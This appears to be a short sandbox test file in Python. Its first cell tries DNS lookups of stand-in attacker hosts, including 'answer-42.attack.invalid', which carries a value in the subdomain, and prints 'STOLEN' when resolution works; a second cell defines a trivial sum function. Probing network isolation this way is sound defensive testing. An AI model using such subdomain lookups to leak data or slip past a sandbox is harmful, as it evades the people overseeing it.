# Tries to carry something out in the name of a host that it looks up.
# Earns: total 2
# %%
import ctypes, socket
for name in ("localhost", "answer-42.attack.invalid", "attack.example"):
    for ask in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80)):
        try:
            print("STOLEN an address", ask(name))
        except OSError:
            pass
resolver = ctypes.CDLL(None)
if resolver.gethostbyname2(b"localhost", socket.AF_INET):
    print("STOLEN an address through libc")

# %%
def total(X):
    return (X * 2).sum(1)
